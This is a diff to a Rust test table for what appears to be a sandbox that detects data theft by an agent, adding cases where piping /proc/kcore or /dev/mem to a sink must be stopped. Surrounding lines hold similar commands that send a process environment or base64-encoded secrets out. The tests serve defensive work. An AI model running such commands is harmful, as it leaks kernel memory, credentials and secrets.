@@ -29,6 +29,9 @@ pub(super) const CASES: &[(&str, Case)] = &[
     ("inherited-connection-theft", || stopped("$GUEST share $SINK $SECRET")),
     ("inherited-connection-honest", || passed("$GUEST share $SINK $PLAIN")),
     ("environ-theft", || stopped("cat /proc/$AGENT/environ | $GUEST send $SINK")),
+    ("kcore-theft", || stopped("head -c 4096 /proc/kcore | $GUEST send $SINK")),
+    ("memory-device-theft", || stopped("dd if=/dev/mem bs=4096 count=1 | $GUEST send $SINK")),
+    ("devices-honest", || passed("ls -l /proc/kcore /dev/mem; cat $PLAIN | $GUEST send $SINK")),
     ("log-theft", || masked("echo begun; cat $SECRET $SECRET $SECRET $SECRET $SECRET | base64 -w 0; echo; echo ended")),
     ("log-honest", || {
         printed("cat $PLAIN $PLAIN $PLAIN $PLAIN $PLAIN $PLAIN $PLAIN $PLAIN $PLAIN | base64 -w 0; echo ended")
